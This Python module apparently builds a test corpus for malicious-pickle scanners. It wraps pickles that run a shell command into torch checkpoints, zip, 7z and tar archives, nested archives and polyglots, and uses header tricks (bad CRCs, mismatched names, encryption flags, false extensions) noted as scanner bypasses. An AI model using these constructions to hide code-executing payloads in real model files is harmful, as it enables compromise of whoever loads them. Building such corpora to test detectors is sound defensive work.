"""Containers and header tricks around malicious pickles: torch zips, zip header lies, 7z, tar, nesting, polyglots."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
from collections.abc import Callable

from tests.corpus import asm
from tests.corpus.asm import Asm, G, call, program
from tests.corpus.model import Ctx, add
from tests.corpus.pickles import SYSTEM, npy_header


def payload(c: Ctx, proto: int = 2) -> bytes:
    """A plain malicious pickle."""
    return program(call(SYSTEM, c.cmd), proto)


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive with the given members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def tar_bytes(members: dict[str, bytes], mode: str = "w") -> bytes:
    """A tar archive (``mode`` 'w', 'w:gz', ...) with the given members."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def torch_members(data_pkl: bytes, prefix: str = "archive") -> dict[str, bytes]:
    """The records torch.load needs for a zip checkpoint whose data.pkl is ``data_pkl``."""
    return {f"{prefix}/data.pkl": data_pkl, f"{prefix}/version": b"3\n", f"{prefix}/byteorder": b"little"}


def benign_torch_zip() -> bytes:
    """A real torch.save zip of a small state dict."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(3)}, buf)
    return buf.getvalue()


def patch_zip_member(
    data: bytes,
    name: str,
    local: Callable[[bytearray, int], None] | None,
    central: Callable[[bytearray, int], None] | None,
) -> bytes:
    """Apply byte patches to the local header and/or the central directory entry of member ``name``."""
    out, wanted = bytearray(data), name.encode()
    for sig, name_len_at, name_at, fn in ((b"PK\x03\x04", 26, 30, local), (b"PK\x01\x02", 28, 46, central)):
        pos = out.find(sig)
        while pos >= 0 and fn is not None:
            (n,) = struct.unpack_from("<H", out, pos + name_len_at)
            if bytes(out[pos + name_at : pos + name_at + n]) == wanted:
                fn(out, pos)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _set_encrypted(local_off: int) -> Callable[[bytearray, int], None]:
    def fn(buf: bytearray, pos: int) -> None:
        buf[pos + local_off] |= 0x01

    return fn


def _flip_crc(crc_off: int) -> Callable[[bytearray, int], None]:
    def fn(buf: bytearray, pos: int) -> None:
        buf[pos + crc_off] ^= 0xFF

    return fn


def _rename_local(buf: bytearray, pos: int) -> None:
    buf[pos + 30 + len("archive/data.")] = ord("x")  # local name archive/data.xkl, central says data.pkl


def _torch_zip_with(builder: Callable[[Ctx], bytes], **kw: object) -> Callable[[Ctx], bytes]:
    return lambda c: zip_bytes(torch_members(builder(c)), **kw)  # type: ignore[arg-type]


def _benign_plus(member: str, builder: Callable[[Ctx], bytes] = payload) -> Callable[[Ctx], bytes]:
    def build(c: Ctx) -> bytes:
        base = benign_torch_zip()
        with zipfile.ZipFile(io.BytesIO(base)) as zf:
            members = {n: zf.read(n) for n in zf.namelist()}
        prefix = next(iter(members)).split("/")[0]
        members[f"{prefix}/{member}"] = builder(c)
        return zip_bytes(members)

    return build


def _broken(c: Ctx) -> bytes:
    return Asm(2).header().emit(call(SYSTEM, c.cmd)).op(b"\xff broken").build()


def _binpersid(c: Ctx) -> bytes:
    a = Asm(2).header().op(asm.MARK).str("storage").emit(call(SYSTEM, c.cmd))
    return a.str("0").str("cpu").int(4).op(asm.TUPLE, asm.BINPERSID, asm.STOP).build()


T = "torch"
add("ctr-torch-zip-handmade", "container", _torch_zip_with(payload), loader=T, ext=".pt")
add(
    "ctr-torch-zip-deflated",
    "container",
    _torch_zip_with(payload, compression=zipfile.ZIP_DEFLATED),
    loader=T,
    ext=".pt",
    notes="data.pkl stored deflated; torch inflates it",
)
add(
    "ctr-torch-zip-prefix-renamed",
    "container",
    lambda c: zip_bytes(torch_members(payload(c), "totally_benign_v2")),
    loader=T,
    ext=".pt",
    notes="torch accepts any top-level folder name",
)
add(
    "ctr-torch-zip-binpersid",
    "container",
    _torch_zip_with(_binpersid),
    loader=T,
    ext=".pt",
    notes="call inside the persistent id tuple, before torch's persistent_load",
)
add(
    "ctr-torch-zip-broken-datapkl",
    "container",
    _torch_zip_with(_broken),
    loader=T,
    ext=".pt",
    bypass="broken-stream",
    notes="nullifAI: data.pkl breaks right after the payload",
)
add(
    "ctr-torch-zip-bad-crc",
    "container",
    lambda c: patch_zip_member(zip_bytes(torch_members(payload(c))), "archive/data.pkl", _flip_crc(14), _flip_crc(16)),
    loader=T,
    ext=".pt",
    bypass="zip-crc",
    notes="torch ignores CRC-32; Python's zipfile refuses the member",
)
add(
    "ctr-torch-zip-local-name-mismatch",
    "container",
    lambda c: patch_zip_member(zip_bytes(torch_members(payload(c))), "archive/data.pkl", _rename_local, None),
    loader=T,
    ext=".pt",
    bypass="zip-names",
    notes="local header name differs from the central directory; torch reads by central name, zipfile refuses",
)
add(
    "ctr-torch-zip-encryption-flag",
    "container",
    lambda c: patch_zip_member(
        zip_bytes(torch_members(payload(c))), "archive/data.pkl", _set_encrypted(6), _set_encrypted(8)
    ),
    loader="none",
    fires=False,
    ext=".pt",
    bypass="zip-flag",
    notes=(
        "encryption bit on an unencrypted member: old torch ignored it (picklescan bypass); "
        "torch 2.13 refuses, so not provable here"
    ),
)
add(
    "ctr-torch-zip-encryption-flag-local-only",
    "container",
    lambda c: patch_zip_member(zip_bytes(torch_members(payload(c))), "archive/data.pkl", _set_encrypted(6), None),
    loader=T,
    ext=".pt",
    bypass="zip-flag",
    notes="encryption bit only in the local header",
)
add(
    "ctr-torch-zip-extra-pickle-member",
    "container",
    _benign_plus("extra/optimizer.pkl"),
    loader="zip-member",
    member="optimizer.pkl",
    ext=".pt",
    notes="real torch checkpoint plus a pickle member not named data.pkl",
)
add(
    "ctr-torch-zip-pickle-as-storage",
    "container",
    _benign_plus("data/77"),
    loader="zip-member",
    member="data/77",
    ext=".pt",
    notes="pickle hidden under a tensor-storage member name",
)
add(
    "ctr-torch-zip-pickle-as-json",
    "container",
    _benign_plus("config.json"),
    loader="zip-member",
    member="config.json",
    ext=".pt",
    notes="pickle member with a .json name",
)
add(
    "ctr-plain-zip-pickle",
    "container",
    lambda c: zip_bytes({"model/model.pkl": payload(c)}, zipfile.ZIP_DEFLATED),
    loader="zip-member",
    member="model.pkl",
    ext=".zip",
)
for _ext in (".safetensors", ".txt", ".bin", ".json", ".onnx", ".gguf", ".h5", ".msgpack"):
    add(
        f"ctr-ext-lie{_ext.replace('.', '-')}",
        "extension-lie",
        payload,
        ext=_ext,
        bypass="extension",
        notes=f"pickle named {_ext}",
    )
add(
    "ctr-7z-pickle",
    "container",
    lambda c: _7z({"model.pkl": payload(c)}),
    loader="7z-member",
    member="model.pkl",
    ext=".7z",
    bypass="7z",
    notes="7z archive (picklescan did not open 7z)",
)
add(
    "ctr-7z-torch-broken",
    "container",
    lambda c: _7z(torch_members(_broken(c))),
    loader="7z-member",
    member="data.pkl",
    ext=".7z",
    bypass="broken-stream",
    notes="nullifAI: torch folder packed with 7z, data.pkl broken after the payload",
)
add(
    "ctr-tar-pickle",
    "container",
    lambda c: tar_bytes({"model/model.pkl": payload(c)}),
    loader="tar-member",
    member="model.pkl",
    ext=".tar",
)
add(
    "ctr-tar-gz-pickle",
    "container",
    lambda c: tar_bytes({"model/model.pkl": payload(c)}, "w:gz"),
    loader="tar-member",
    member="model.pkl",
    ext=".tar.gz",
)
add(
    "ctr-tar-xz-pickle",
    "container",
    lambda c: tar_bytes({"model.bin": payload(c)}, "w:xz"),
    loader="tar-member",
    member="model.bin",
    ext=".tar.xz",
)
add(
    "ctr-nested-zip-tar-zip",
    "container",
    lambda c: zip_bytes({"bundle.tar": tar_bytes({"model.zip": zip_bytes({"weights.pkl": payload(c)})})}),
    loader="nested-zip-tar-zip",
    member="weights.pkl",
    ext=".zip",
    notes="zip > tar > zip > pickle",
)
add(
    "ctr-npz-handmade-object-member",
    "container",
    lambda c: zip_bytes({"weights.npy": npy_header("<f8", "(0,)"), "meta.npy": npy_header() + payload(c)}),
    loader="numpy",
    ext=".npz",
)
add(
    "ctr-npy-handmade-object",
    "container",
    lambda c: npy_header("|O", "(2,)") + program(call(G("builtins", "exec"), c.pycode), 3),
    loader="numpy",
    ext=".npy",
    primitives=("builtins.exec",),
)
add(
    "ctr-polyglot-pickle-then-zip",
    "polyglot",
    lambda c: payload(c) + benign_torch_zip(),
    ext=".pkl",
    bypass="polyglot",
    notes="pickle at offset 0, a valid zip (central directory at the end) after it",
)
add(
    "ctr-polyglot-pickle-then-torch-zip-pt",
    "polyglot",
    lambda c: payload(c) + benign_torch_zip(),
    loader=T,
    ext=".pt",
    bypass="polyglot",
    notes="torch sees no zip magic at 0, takes the legacy path and unpickles the prefix",
)
add(
    "ctr-torch-legacy-prepended",
    "polyglot",
    lambda c: payload(c) + _legacy_benign(),
    loader=T,
    ext=".pt",
    notes="payload as the first pickle (magic-number slot) of a legacy checkpoint",
)
add(
    "ctr-torchscript-datapkl-swapped",
    "container",
    lambda c: _torchscript_swap(c, "data.pkl"),
    loader="zip-member",
    member="/data.pkl",
    ext=".pt",
    notes=(
        "TorchScript archive with data.pkl replaced; torch.jit.load would reject it, "
        "any pickle loader of the member runs it"
    ),
)
add(
    "ctr-torchscript-constants-swapped",
    "container",
    lambda c: _torchscript_swap(c, "constants.pkl"),
    loader="zip-member",
    member="constants.pkl",
    ext=".pt",
    notes="TorchScript constants.pkl replaced",
)


def _7z(members: dict[str, bytes]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return buf.getvalue()


def _legacy_benign() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(3)}, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def _torchscript_swap(c: Ctx, member: str) -> bytes:
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.lin(x)

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Tiny()), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    target = next(n for n in members if n.endswith("/" + member))
    members[target] = payload(c)
    return zip_bytes(members)


add(
    "ctr-polyglot-npy-then-pickle",
    "polyglot",
    lambda c: npy_header("<f8", "(2,)") + b"\x00" * 16 + payload(c),
    loader="none",
    fires=False,
    ext=".npy",
    notes="valid float .npy with a pickle appended: numpy.load ignores the tail; a loader reading past it would run it",
)
add(
    "ctr-polyglot-zip-then-pickle",
    "polyglot",
    lambda c: benign_torch_zip() + payload(c),
    loader="none",
    fires=False,
    ext=".pt",
    notes="pickle appended after a valid torch zip's end record: hidden bytes no standard loader reads",
)


def _legacy_keys_payload(c: Ctx) -> bytes:
    """A real legacy torch file whose storage-keys pickle (the 5th stream) runs the payload first."""
    import pickletools

    data = _legacy_benign()
    offsets, pos = [], 0
    for _ in range(5):
        offsets.append(pos)
        pos = [p for _, _, p in pickletools.genops(data[pos:])][-1] + pos + 1
    keys_start, keys_end = offsets[4], pos
    import pickle

    keys = pickle.loads(data[keys_start:keys_end])
    evil = Asm(2).header().emit(call(SYSTEM, c.cmd)).op(asm.POP).emit(keys).stop().build()
    return data[:keys_start] + evil + data[keys_end:]


add(
    "ctr-torch-legacy-payload-in-storage-keys",
    "container",
    _legacy_keys_payload,
    loader="torch",
    ext=".pt",
    notes="legacy checkpoint: the storage-keys pickle after the data pickle runs the payload",
)
